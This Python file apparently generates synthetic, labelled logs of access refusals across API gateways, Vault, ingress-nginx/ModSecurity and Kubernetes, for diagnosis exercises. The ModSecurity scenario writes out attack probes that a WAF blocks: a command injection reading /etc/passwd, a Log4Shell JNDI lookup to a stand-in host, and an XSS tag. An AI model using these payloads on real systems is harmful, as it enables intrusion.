"""Gateways and what they ask: Lambda authorizers, Tyk, APISIX, Contour, Cerbos, Vault, ingresses and clusters."""
from seen.lines import *

KINDS = []
def kind(f): KINDS.append(f); return f


@kind
def lambda_authorizer(s):
    """API Gateway says only that its authorizer refused; the authorizer's own log says why, by the gateway's request id; for some minutes it fails itself"""
    def call(t, client, method, path, status, response="-", message="-", told=None, level="WARN", error="-", agent="Till/7.1 (Android 14)", integration="-"):
        a = api_gateway(s, t, client, method, path, status, response, message, error, agent, integration=integration); rid = json.loads(a["text"])["requestId"]
        return [a, s.json("authorizer.json", t + sec(.004), dict(timestamp=z(t + sec(.004)), level=level, requestId=s.uuid(), message=dict(told, apiRequestId=rid)))] if told else [a]
    for t in s.spread(0, 120, 6): k = s.some(0, 20); call(t, s.ip(k), "GET", s.r.choice(["/menu", "/tables/%d" % s.some(1, 30)]), 200, told=dict(event="allow", sub=s.who(k)), level="INFO", integration="200")
    e = inc(s, "tills poll with a token that is over", "authorizer", "token-expired", FAULT, LOOP, None, layer=["gateway", "identity"], pattern=["steady"])
    for till in range(s.some(1, 3)):
        for n, t in run(s, s.some(5, 70), s.some(25, 45), 14, 16): s.deny(e, call(t, s.ip(40 + till), "GET", "/menu", 403, "ACCESS_DENIED", "User is not authorized to access this resource", dict(event="deny", error="TokenExpiredError: jwt expired", sub="till-%d" % till)), "till-%d" % till)
    sc = inc(s, "waiter's token does not cover refunds", "authorizer", "scope-insufficient", WAI, "single", layer=["gateway"], verdict=[FAULT]); k_ = inc(s, "token signed by a key that was withdrawn", "authorizer", "token-invalid", FAULT, "single", layer=["gateway", "identity"], verdict=[MIS])
    for n, t in often(s, 5, 8): s.deny(sc, call(t, s.ip(n), "POST", "/refunds", 403, "ACCESS_DENIED", "User is not authorized to access this resource with an explicit deny", dict(event="deny", error="insufficient_scope: refunds:write", sub=s.who(n))), s.who(n))
    for n, t in often(s, 3, 5): s.deny(k_, call(t, s.ip(20 + n), "GET", "/menu", 403, "ACCESS_DENIED", "User is not authorized to access this resource", dict(event="deny", error="JsonWebTokenError: unable to find a signing key that matches 'k-2024'", sub=s.who(20 + n))), s.who(20 + n))
    m = inc(s, "no token", "gateway", "credential-missing", FAULT, "single", verdict=[WAI]); p = inc(s, "preflight of a method that nobody set up", "gateway", "cors-preflight-refused", MIS, "single", pattern=["steady"], cause=["credential-missing"])
    for n, t in often(s, 3, 5): s.deny(m, call(t, s.ip(50 + n), "GET", "/menu", 401, "UNAUTHORIZED", "Unauthorized", agent=s.agent(n)))
    for n, t in often(s, 6, 9): s.deny(p, call(t, s.ip(30 + n), "OPTIONS", "/refunds", 403, "MISSING_AUTHENTICATION_TOKEN", "Missing Authentication Token", agent=s.agent(n)))
    what = "deployed lambda authorizer version 31"; start = s.some(40, 90); s.change(s.at(start), "ci", what, "lambda:authorizer", "deploy"); s.change(s.at(start + 9), "ci", "rolled back lambda authorizer to version 30", "lambda:authorizer", "deploy")
    f = inc(s, "authorizer fails since version 31", "authorizer", "authorizer-failed", MIS, BURST, what, layer=["gateway"], pattern=["single", "steady"])
    for t in s.spread(start, start + 9, 9): k = s.some(0, 20); s.deny(f, call(t, s.ip(k), "GET", "/menu", 500, "AUTHORIZER_FAILURE", "Internal server error", dict(event="error", error="Runtime.ImportModuleError: Error: Cannot find module 'jwks-rsa'"), "ERROR", "The Lambda function returned an error"))


@kind
def tyk_partners(s):
    """Tyk's own log, which knows no status and no year: a partner's key was deleted, another runs over its quota, somebody tries keys"""
    cut = s.some(30, 60); what = "deleted key of partner quarry (Tyk dashboard)"; s.change(s.at(cut), "dashboard:" + s.who(1), what, "key:quarry", "gateway"); s.change(s.at(cut - 12), "ci", "released stock service 9.2", "stock", "deploy")
    nginx = lambda t, c, q, st, a: access(s, t, c, q, st, agent=a, file="edge-access.log")
    for t in s.spread(0, 120, 6): k = s.some(0, 9); nginx(t, "198.51.100.%d" % (10 + k), "GET /stock/%d" % s.some(1, 90), 200, "StockClient/%d.0" % k)
    q = inc(s, "partner whose key was deleted", "gateway", "api-key-misconfigured", MIS, LOOP, what, verdict=[FAULT, WAI], pattern=["steady", BURST])
    for t in s.ticks(0, 120, 100):
        if t < s.at(cut): nginx(t, "198.51.100.77", "GET /stock/all", 200, "QuarrySync/3.3")
        else: s.deny(q, [nginx(t, "198.51.100.77", "GET /stock/all", 403, "QuarrySync/3.3"), tyk(s, t, "warning", "Attempted access with invalid key.", "198.51.100.77", "/stock/all", key="****c0de")])
    m = inc(s, "no key", "gateway", "credential-missing", FAULT, "single", verdict=[WAI]); o = inc(s, "over its quota", "gateway", "rate-limited", WAI, LOOP, None, verdict=[FAULT, BOT], pattern=["steady", "scrape"])
    for n, t in often(s, 4, 6): s.deny(m, [nginx(t, s.ip(n), "GET /stock/4", 401, s.agent(n)), tyk(s, t, "info", "Attempted access with malformed header, no auth header found.", s.ip(n), "/stock/4", key="")])
    for n, t in run(s, s.some(30, 90), s.some(30, 60), 1, 4): s.deny(o, [nginx(t, "198.51.100.33", "GET /stock/%d" % n, 429 if n % 2 else 403, "BulkFeed/1"), tyk(s, t, "info", "Key rate limit exceeded." if n % 2 else "Key quota limit exceeded.", "198.51.100.33", "/stock/%d" % n, mw="RateLimitAndQuotaCheck", key="****77aa")])
    g = inc(s, "somebody tries keys", "gateway", "api-key-misconfigured", ATT, BRUTE, None, cause=["credential-wrong"], pattern=["enumeration", STUFF])
    for n, t in run(s, s.some(10, 100), s.some(40, 70), .3, 2): s.deny(g, [nginx(t, s.attacker, "GET /stock/1", 403, "Go-http-client/1.1"), tyk(s, t, "warning", "Attempted access with invalid key.", s.attacker, "/stock/1", key="****" + s.hex(4))])
    x = inc(s, "key is over", "gateway", "token-expired", FAULT, "single", cause=["api-key-misconfigured"], pattern=["steady"])
    for n, t in often(s, 3, 5): s.deny(x, [nginx(t, "198.51.100.%d" % (50 + n), "GET /stock/2", 401, "PilotApp/1"), tyk(s, t, "warning", "Key has expired, please renew", "198.51.100.%d" % (50 + n), "/stock/2", mw="KeyExpired", key="****11ff")])


@kind
def mobile_through_apisix(s):
    """APISIX with its answers' bodies: consumers that may not, addresses, counts, tokens; the bodies are all the reason there is"""
    for t in s.spread(0, 120, 5): k = s.some(0, 30); apisix(s, t, s.ip(k), "GET", s.r.choice(["/v3/feed", "/v3/me"]), 200, consumer="app")
    say = lambda text: json.dumps(dict(message=text), separators=(",", ":")) + "\n"
    one = lambda title, cause_, verdict_, **more: inc(s, title, "gateway", cause_, verdict_, "single", **more)
    cases = [(401, "Missing API key in request", one("no key", "credential-missing", FAULT, verdict=[WAI]), "GET"), (401, "Invalid API key in request", one("key that is not known", "api-key-misconfigured", FAULT, verdict=[MIS], pattern=["steady"]), "GET"), (401, "failed to verify jwt", one("token does not verify", "token-invalid", FAULT, verdict=[MIS]), "GET"),
             (403, "The consumer_name is forbidden.", one("consumer may not use the route", "permission-missing", WAI, cause=["explicit-deny", "not-assigned"], verdict=[UND]), "POST"), (403, "Your IP address is not allowed", one("address not on the list", "address-not-allowlisted", WAI, cause=["address-blocked"], verdict=[UND]), "GET"), (403, "Your referer host is not allowed", one("foreign page", "hotlink-refused", WAI, cause=["server-rule"], verdict=[UND]), "GET"), (403, "Not allowed", one("agents that are not wanted", "user-agent-blocked", WAI, cause=["server-rule"], verdict=[UND, BOT]), "GET")]
    k = 0
    for status, text, i, method in cases:
        for n, t in often(s, 4, 7): k += 1; s.deny(i, apisix(s, t, "198.51.100.%d" % (60 + k) if "IP" in text else s.ip(k), method, "/v3/admin/flags" if method == "POST" else "/v3/feed", status, say(text), False, agent="libwww-perl/6.67" if text == "Not allowed" else "MobileApp/12.%d" % n))
    r = inc(s, "scraper over its count", "gateway", "rate-limited", BOT, "scrape", None, pattern=[LOOP, "steady"], verdict=[WAI])
    for n, t in run(s, s.some(20, 80), s.some(60, 90), .1, .7): s.deny(r, apisix(s, t, "203.0.113.44", "GET", "/v3/profile/%d" % (1000 + n), 429, say("Too many requests"), False, agent="python-httpx/0.28")) if n > 20 else apisix(s, t, "203.0.113.44", "GET", "/v3/profile/%d" % (1000 + n), 200, agent="python-httpx/0.28")
    b = inc(s, "service said no", "application", "application-refused", UND, "single", verdict=[WAI], cause=["unknown", "permission-missing"])
    for n, t in often(s, 4, 7): s.deny(b, apisix(s, t, s.ip(40 + n), "DELETE", "/v3/post/%d" % n, 403, consumer="app"))


@kind
def contour_and_its_authorizer(s):
    """Envoy asks a service of the house over gRPC; its log has the reasons under the request's id; its clock runs 47 s ahead; a replica of it is killed by memory"""
    skew = sec(47)
    def call(t, client, method, path, status, details, flags="-", told=None, user=None, upstream=False, agent="okhttp/4.12.0"):
        e = envoy_json(s, t, method, path, status, details, client, flags, agent, upstream)
        return [e, s.json("authz.json", t + skew, dict(level="warn" if status >= 400 else "info", ts=z(t + skew, 6), logger="authz", caller="authz/check.go:118", msg=told, requestId=json.loads(e["text"])["x-request-id"], method=method, path=path, user=user))] if told else [e]
    for t in s.spread(0, 120, 5): k = s.some(0, 30); call(t, s.ip(k), "GET", s.r.choice(["/v1/loans", "/v1/books/%d" % s.some(1, 200)]), 200, "via_upstream", told="allow", user=s.who(k), upstream=True)
    deny = lambda i, t, k, method, path, status, told, **more: s.deny(i, call(t, s.ip(k), method, path, status, "ext_authz_denied", "UAEX", told, s.who(k), **more), s.who(k))
    e = inc(s, "reader app with a session that is over", "authorizer", "token-expired", FAULT, LOOP, None, layer=["identity"], pattern=["steady"]); k = s.some(0, 20)
    for n, t in run(s, s.some(5, 80), s.some(30, 60), 19, 21): deny(e, t, k, "GET", "/v1/loans", 401, "session expired 2026-03-12T0%d:00:00Z" % s.some(1, 5), agent="ReaderApp/3.0")
    m = inc(s, "fines want a fresh sign-in", "authorizer", "mfa-required", WAI, "single", layer=["identity"]); x = inc(s, "rule forbids minors the archive", "authorizer", "explicit-deny", WAI, "single", layer=["policy"]); o = inc(s, "not a librarian", "authorizer", "permission-missing", WAI, "single", layer=["policy"])
    for n, t in often(s, 5, 8): deny(m, t, n, "POST", "/v1/fines/pay", 401, "insufficient_user_authentication: acr=urn:mfa required, session has acr=pwd")
    for n, t in often(s, 5, 7): deny(x, t, 30 + n, "GET", "/v1/archive/%d" % n, 403, "forbid policy minors-archive matched")
    for n, t in often(s, 3, 5): deny(o, t, 10 + n, "POST", "/v1/books", 403, "no policy permits books:create for role reader")
    down = s.some(40, 100); f = inc(s, "authorizer out of memory", "authorizer", "authorizer-failed", MIS, BURST, None, layer=["gateway"], pattern=["single", "steady"])
    for t in s.spread(down, down + 5, 5): s.deny(f, call(t, s.ip(s.some(0, 30)), "GET", "/v1/loans", 403, "ext_authz_error", "UAEX"))
    s.put("kubelet.log", s.at(down), "%s node3 kubelet[911]: I0312 pod_workers.go:1298] OOMKilled container authz in pod auth/authz-6c" % s.at(down).strftime("%b %e %H:%M:%S"))
    p = inc(s, "preflights have no session", "authorizer", "cors-preflight-refused", MIS, "single", pattern=["steady"])
    for n, t in often(s, 6, 9): s.deny(p, call(t, s.ip(50 + n), "OPTIONS", "/v1/loans", 401, "ext_authz_denied", "UAEX", "no session cookie", None, agent=s.agent(n)))


@kind
def two_decision_points(s):
    """Cerbos twice beside an application: one still decides by last week's commit; rules that forbid, and a role that lost a right in the new commit on purpose"""
    new, old = s.hex(40), s.hex(40); cut = s.some(30, 55); what = "merged policies commit %s: claims adjusters may approve" % new[:10]
    s.change(s.at(cut), s.who(2), what, "policy:resource.claim", "policy")
    def ask(t, k, roles, action, ident, effect, source, pdp, policy="resource.claim.vdefault"):
        req = s.uuid(); c = cerbos(s, t, s.who(k), roles, "claim", ident, action, effect, policy, source, pdp, request=req, file="%s.json" % pdp)
        a = s.json("claims.json", t + sec(.006), dict(time=z(t + sec(.006)), level="INFO" if effect == "EFFECT_ALLOW" else "WARN", msg="request", method="POST" if action != "view" else "GET", path="/claims/%s/%s" % (ident, action), status=200 if effect == "EFFECT_ALLOW" else 403, user=s.who(k), remote_addr=s.ip(k), cerbos_request_id=req, decision=effect))
        return [a, c]
    o = inc(s, "pdp-2 still decides by the old commit", "policy", "policy-out-of-date", MIS, "steady", what, layer=["application"], pattern=["single", BURST, LOOP]); b = inc(s, "adjusters could not approve before the commit", "policy", "permission-missing", WAI, "single", None, layer=["application"], pattern=["steady"])
    for t in s.spread(0, 120, 10):
        k = s.some(0, 25); pdp = s.r.choice(["pdp-1", "pdp-2"]); fresh = t > s.at(cut) + sec(20) and pdp == "pdp-1"; source = new if fresh else old; ident = "C-%d" % s.some(1000, 4000)
        if s.r.random() < .75: ask(t, k, ["employee"], "view", ident, "EFFECT_ALLOW", source, pdp)
        elif fresh: ask(t, k % 9, ["employee", "adjuster"], "approve", ident, "EFFECT_ALLOW", source, pdp)
        elif t > s.at(cut) + sec(20): s.deny(o, ask(t, k % 9, ["employee", "adjuster"], "approve", ident, "EFFECT_DENY", source, pdp), s.who(k % 9))
        elif s.r.random() < .15: s.deny(b, ask(t, k % 9, ["employee", "adjuster"], "approve", ident, "EFFECT_DENY", source, pdp), s.who(k % 9))
    d = inc(s, "nobody decides on a claim of their own", "policy", "explicit-deny", WAI, "single", layer=["application"], cause=["permission-missing"])
    for n, t in often(s, 4, 7): s.deny(d, ask(t, 26 + n, ["employee"], "delete", "C-%d" % (5000 + n), "EFFECT_DENY", new if t > s.at(cut + 1) else old, "pdp-1", "resource.claim.vdefault#deny-self-decision"), s.who(26 + n))


@kind
def secrets_in_vault(s):
    """Vault's audit file: a policy rewritten by pipeline takes a path from three services; a token past its life loops; a stranger's role id; someone walks the mounts"""
    users = ["approle-" + n for n in ("billing", "mailer", "search", "web", "etl")]; cut = s.some(35, 60)
    hit = users[:3]; what = "sys/policies/acl/shared-read update"
    vault(s, s.at(cut), "oidc-" + s.mail(2), "update", "sys/policies/acl/shared-read", s.ip(2), policies=("default", "admin"))
    vault(s, s.at(cut - 15), "oidc-" + s.mail(2), "update", "sys/policies/acl/web", s.ip(2), policies=("default", "admin"))
    i = inc(s, "policy shared-read lost a path", "platform", "permission-removed", MIS, BURST, what, layer=["application", "policy"], pattern=["steady", LOOP])
    for t in s.spread(0, 120, 7):
        w = s.r.choice(users); path = s.r.choice(["kv/data/shared/smtp", "kv/data/%s/db" % w[8:]]) if w in hit else "kv/data/%s/db" % w[8:]
        if "shared" in path and t > s.at(cut): s.deny(i, vault(s, t, w, "read", path, "10.42.0.%d" % users.index(w), "1 error occurred:\n\t* permission denied\n\n", ("default", "shared-read")), w)
        else: vault(s, t, w, "read", path, "10.42.0.%d" % users.index(w), policies=("default", "shared-read"))
    e = inc(s, "job with a token that Vault no longer knows", "platform", "token-invalid", FAULT, LOOP, None, layer=["application", "identity"], cause=["token-expired"], verdict=[MIS], pattern=["steady"]); token = s.hex(32)
    for t in s.ticks(0, 30, 60): vault(s, t, "token-nightly", "read", "kv/data/nightly/key", "10.42.0.40", token=token)
    for t in s.ticks(32, 110, 60): s.deny(e, vault(s, t, "", "read", "kv/data/nightly/key", "10.42.0.40", "2 errors occurred:\n\t* permission denied\n\t* invalid token\n\n", token=token, known=False))
    n_ = inc(s, "never granted", "platform", "permission-missing", WAI, "single", layer=["application", "policy"])
    for n, t in often(s, 3, 5): s.deny(n_, vault(s, t, "oidc-" + s.mail(10 + n), "read", "kv/data/prod/root-ca", s.ip(10 + n), "1 error occurred:\n\t* permission denied\n\n", ("default", "dev")), "oidc-" + s.mail(10 + n))
    a = inc(s, "a pod's token walks the mounts", "platform", "permission-missing", ATT, "enumeration", None, layer=["application", "policy"], pattern=["scan"])
    for n, t in run(s, s.some(20, 100), s.some(25, 45), .2, 2): s.deny(a, vault(s, t, "kubernetes-web-default", s.r.choice(["list", "read"]), "%s/%s" % (s.r.choice(["kv/metadata", "aws/creds", "pki/issue", "sys/auth", "database/creds", "sys/policies/acl", "transit/export"]), s.r.choice(["admin", "prod", "root", "ops", "ci", "deploy", str(n)])), "10.42.3.66", "1 error occurred:\n\t* permission denied\n\n", ("default",)), "kubernetes-web-default")


@kind
def ingress_after_the_node_change(s):
    """Kubernetes: the controller's service goes to policy Cluster; from then on the ingress sees nodes for clients, and its list and its limit hit everybody"""
    cut = s.some(40, 65); what = "patched service ingress-nginx-controller externalTrafficPolicy Cluster"
    s.known = "proxies:\n  - {name: nodes, networks: [10.20.4.0/24]}\n"
    k8s(s, s.at(cut), "platform-ci", "patch", "services", 200, ns="ingress-nginx", name="ingress-nginx-controller", ip="10.20.1.9", agent="helm/3.15", reason='RBAC: allowed by ClusterRoleBinding "platform-ci"', body=dict(spec=dict(externalTrafficPolicy="Cluster")))
    s.change(s.at(cut), "platform-ci", what, "service:ingress-nginx-controller", "config"); s.change(s.at(cut - 9), s.mail(3), "deployed docs-site 2.4", "docs", "deploy")
    i = inc(s, "list for the back office sees the nodes", "proxy", "wrong-client-address", MIS, BURST, what, pattern=["steady", "single"]); o = inc(s, "addresses that are not on the list", "proxy", "address-not-allowlisted", WAI)
    def refused(t, ip, path, x): s.deny(x, [ingress(s, t, ip, "GET", path, 403, None, size=146), nginx_error(s, t, ip, "GET " + path, "access forbidden by rule", "ingress-nginx-error.log")])
    for t in s.spread(0, 120, 5):
        k = s.some(0, 30); late = t > s.at(cut) + sec(8); ip = "10.20.4.%d" % s.some(11, 14) if late else s.ip(k); path = s.r.choice(["/", "/docs/%d" % s.some(1, 40), "/backoffice/orders"])
        if late and "backoffice" in path: refused(t, ip, path, i)
        else: ingress(s, t, ip, "GET", path, 200, 200, agent=s.agent(k))
    for n, t in often(s, 3, 5, end=38): refused(t, "203.0.113.%d" % (30 + n), "/backoffice/orders", o)


@kind
def ingress_with_content_rules(s):
    """ingress-nginx with ModSecurity: an editor's drafts and an API's filters look like attacks; a real one among them; agents refused by annotation; the service's own no"""
    def rule(t, ip, request, ident, message, data, req, number): return s.put("ingress-nginx-error.log", t, '%s [error] 41#41: *%d [client %s] ModSecurity: Access denied with code 403 (phase 2). Matched "Operator `Ge\' with parameter `5\' against variable `TX:ANOMALY_SCORE\' (Value: `5\' ) [file "/etc/nginx/owasp-modsecurity-crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf"] [line "81"] [id "949110"] [rev ""] [msg "Inbound Anomaly Score Exceeded (Total Score: 5)"] [data ""] [severity "2"] [ver "OWASP_CRS/3.3.5"] [maturity "0"] [accuracy "0"] [tag "attack-generic"] [hostname "10.42.0.9"] [uri "%s"] [unique_id "%s"] [ref ""], client: %s, server: cms.%s, request: "%s HTTP/2.0", host: "cms.%s"' % (t.strftime("%Y/%m/%d %H:%M:%S"), number, ip, request.split(" ")[1].split("?")[0], req[:18], ip, s.domain, request, s.domain))
    def warn(t, ip, request, ident, message, data, req, number): return s.put("ingress-nginx-error.log", t - sec(.001), '%s [info] 41#41: *%d ModSecurity: Warning. Matched "Operator `Rx\' with parameter `x\' against variable `ARGS:q\' (Value: `%s\' ) [file "/etc/nginx/owasp-modsecurity-crs/rules/REQUEST-%s.conf"] [line "77"] [id "%s"] [rev ""] [msg "%s"] [data "Matched Data: %s found within ARGS:q: %s"] [severity "2"] [ver "OWASP_CRS/3.3.5"] [maturity "0"] [accuracy "0"] [hostname "10.42.0.9"] [uri "%s"] [unique_id "%s"] [ref "o0,9"], client: %s, server: cms.%s, request: "%s HTTP/2.0", host: "cms.%s"' % (t.strftime("%Y/%m/%d %H:%M:%S"), number, data, ident[:3], ident, message, data, data, request.split(" ")[1].split("?")[0], req[:18], ip, s.domain, request, s.domain))
    for t in s.spread(0, 120, 6): k = s.some(0, 25); ingress(s, t, s.ip(k), s.r.choice(["GET", "GET", "POST"]), s.r.choice(["/", "/drafts/%d" % s.some(1, 60), "/api/items?filter=name"]), 200, 200, agent=s.agent(k), name="cms-web-3000")
    def refused(i, t, ip, method, path, hits, agent=None, who=None):
        req, number = s.hex(32), s.next(); q = "%s %s" % (method, path)
        s.deny(i, [warn(t, ip, q, *h, req, number) for h in hits] + [rule(t, ip, q, *hits[0], req, number), ingress(s, t, ip, method, path, 403, None, agent, 146, req, "cms-web-3000")], who)
    f = inc(s, "drafts with code in them", "waf", "waf-rule", MIS, "single", pattern=["steady"])
    for n, t in often(s, 9, 13): refused(f, t, s.ip(n), "PUT", "/drafts/%d" % (n + 3), [("941160", "NoScript XSS InjectionChecker: HTML Injection", "<iframe src=https://player.example/%d>" % n)])
    a = inc(s, "probes", "waf", "waf-rule", ATT, "exploit-attempt", None, pattern=["scan"])
    for n, t in run(s, s.some(10, 100), s.some(20, 40), .3, 4): refused(a, t, s.attacker, "GET", s.r.choice(["/api/items?filter=1;cat+/etc/passwd", "/?q=${jndi:ldap://x.example/a}", "/api/items?filter=<script>alert(9)</script>"]) + "&n=%d" % n, [s.r.choice([("932160", "Remote Command Execution: Unix Shell Code Found", "etc/passwd"), ("944150", "Potential Remote Command Execution: Log4j / Log4shell", "${jndi:ldap://x.example/a}")])], "Mozilla/5.0 (compatible; Nuclei - Open-source project)")
    u = inc(s, "agents refused by the ingress", "proxy", "user-agent-blocked", BOT, "scrape", None, cause=["server-rule", "unknown"], verdict=[WAI, UND], pattern=["steady", LOOP])
    for agent in ("MJ12bot/v1.4.8 (http://mj12bot.com/)", "Bytespider; spider-feedback@bytedance.com"):
        for n, t in run(s, s.some(5, 60), s.some(14, 20), 20, 90): s.deny(u, ingress(s, t, "203.0.113.%d" % (60 + len(agent) % 9), "GET", "/drafts/%d" % (n + 1), 403, None, "Mozilla/5.0 (compatible; %s)" % agent, 146, name="cms-web-3000"))
    b = inc(s, "the CMS said no", "application", "application-refused", UND, "single", verdict=[WAI], cause=["unknown", "permission-missing"])
    for n, t in often(s, 4, 7): s.deny(b, ingress(s, t, s.ip(40 + n), "POST", "/publish/%d" % n, 403, 403, name="cms-web-3000"))


@kind
def release_day_of_a_cluster(s):
    """Kubernetes audit: a Kyverno rule comes with a release and stops deployments; a chart takes a binding along; a runner's bound token ran out"""
    for t in s.spread(0, 120, 8): k = s.some(0, 15); k8s(s, t, s.mail(k), s.r.choice(["get", "list", "watch"]), s.r.choice(["pods", "configmaps"]), 200, ns="web", ip=s.ip(k), reason='RBAC: allowed by RoleBinding "team/web"')
    cut = s.some(30, 50); what = "created clusterpolicies require-run-as-nonroot"
    k8s(s, s.at(cut), "system:serviceaccount:flux:kustomize", "create", "clusterpolicies", 201, ns="", name="require-run-as-nonroot", group="kyverno.io", ip="10.42.0.5", agent="kustomize-controller/v1.3", reason="RBAC: allowed")
    a = inc(s, "pods as root refused by the new rule", "platform", "admission-refused", MIS, BURST, what, verdict=[WAI, FAULT], pattern=["single", "steady"])
    status = s.r.choice([400, 403])
    for n, t in often(s, 9, 14, start=cut + 1): who = s.mail(n % 7); s.deny(a, k8s(s, t, who, "patch", "deployments", status, 'admission webhook "validate.kyverno.svc-fail" denied the request: \n\nresource Deployment/web/api-%d was blocked due to the following policies \n\nrequire-run-as-nonroot:\n  autogen-run-as-non-root: \'validation error: Running as root is not allowed. rule autogen-run-as-non-root failed at path /spec/template/spec/securityContext/runAsNonRoot/\'\n' % n, group="apps", name="api-%d" % n, ns="web", ip=s.ip(n % 7), reason='RBAC: allowed by RoleBinding "team/web"', why="Forbidden" if status == 403 else "BadRequest"), who)
    off = s.some(60, 80); gone = "deleted rolebindings metrics-reader"
    k8s(s, s.at(off), "system:serviceaccount:flux:helm", "delete", "rolebindings", 200, ns="web", name="metrics-reader", group="rbac.authorization.k8s.io", ip="10.42.0.6", agent="helm-controller/v1.0", reason="RBAC: allowed")
    r = inc(s, "scaler lost its binding with a chart", "platform", "permission-removed", MIS, LOOP, gone, pattern=[BURST, "steady"]); sa = "system:serviceaccount:web:scaler"
    for t in s.ticks(0, 120, 60):
        if t < s.at(off): k8s(s, t, sa, "list", "pods", 200, ns="web", ip="10.42.1.8", agent="scaler/1.4", group="metrics.k8s.io", reason='RBAC: allowed by RoleBinding "metrics-reader/web"')
        else: s.deny(r, k8s(s, t, sa, "list", "pods", 403, 'pods.metrics.k8s.io is forbidden: User "%s" cannot list resource "pods" in API group "metrics.k8s.io" in the namespace "web"' % sa, "forbid", ns="web", ip="10.42.1.8", agent="scaler/1.4", group="metrics.k8s.io"), sa)
    e = inc(s, "runner's token ran out", "platform", "token-expired", FAULT, LOOP, None, cause=["token-invalid", "credential-missing"], verdict=[MIS, UND], pattern=["steady"])
    for t in s.ticks(5, 110, 120): s.deny(e, [k8s(s, t, "", "create", "pods", 401, "Unauthorized", None, ns="ci", ip="10.20.6.3", agent="gitlab-runner/17.0", why="Unauthorized"), cri(s, "apiserver.log", t, 'E0312 %s.000000       1 authentication.go:73] "Unable to authenticate the request" err="[invalid bearer token, service account token has expired]"' % t.strftime("%H:%M:%S"), "stderr")])
    p = inc(s, "pod security of the namespace", "platform", "admission-refused", WAI, "single", verdict=[FAULT])
    for n, t in often(s, 3, 5): s.deny(p, k8s(s, t, s.mail(10 + n), "create", "pods", 403, 'pods "debug" is forbidden: violates PodSecurity "restricted:latest": privileged (container "debug" must not set securityContext.privileged=true)', ns="restricted", ip=s.ip(10 + n)), s.mail(10 + n))
    q = inc(s, "other team's secrets", "platform", "permission-missing", WAI)
    for n, t in often(s, 3, 5): who = s.mail(20 + n); s.deny(q, k8s(s, t, who, "get", "secrets", 403, 'secrets "db" is forbidden: User "%s" cannot get resource "secrets" in API group "" in the namespace "pay"' % who, "forbid", ns="pay", name="db", ip=s.ip(20 + n)), who)


@kind
def quota_and_images(s):
    """Kubernetes, three months of habit: quotas, an image rule, a webhook that times out; all in one pretty array exported by a colleague"""
    s.wrapped["k8s-audit.json"] = "pretty"
    for t in s.spread(0, 120, 40): k = s.some(0, 15); k8s(s, t, s.mail(k), s.r.choice(["get", "list"]), s.r.choice(["pods", "jobs"]), 200, ns="lab", ip=s.ip(k), reason='RBAC: allowed by RoleBinding "edit/lab"')
    q = inc(s, "quota is used up", "platform", "admission-refused", WAI, "single", verdict=[FAULT], cause=["rate-limited"]); g = inc(s, "image from elsewhere", "platform", "admission-refused", WAI, "single", verdict=[FAULT]); d = inc(s, "reader may not delete", "platform", "permission-missing", WAI)
    for n, t in often(s, 4, 7): s.deny(q, k8s(s, t, s.mail(n), "create", "pods", 403, 'pods "train-%d" is forbidden: exceeded quota: gpu, requested: requests.nvidia.com/gpu=2, used: requests.nvidia.com/gpu=8, limited: requests.nvidia.com/gpu=8' % n, ns="lab", ip=s.ip(n)), s.mail(n))
    for n, t in often(s, 4, 7): s.deny(g, k8s(s, t, s.mail(10 + n), "create", "pods", 403, 'admission webhook "validation.gatekeeper.sh" denied the request: [allowed-repos] container <x> has an invalid image repo <docker.io/somebody/x:latest>, allowed repos are ["registry.%s/"]' % s.domain, ns="lab", ip=s.ip(10 + n)), s.mail(10 + n))
    for n, t in often(s, 3, 5): who = s.mail(20 + n); s.deny(d, k8s(s, t, who, "delete", "jobs", 403, 'jobs.batch "train" is forbidden: User "%s" cannot delete resource "jobs" in API group "batch" in the namespace "lab"' % who, "forbid", ns="lab", name="train", group="batch", ip=s.ip(20 + n)), who)
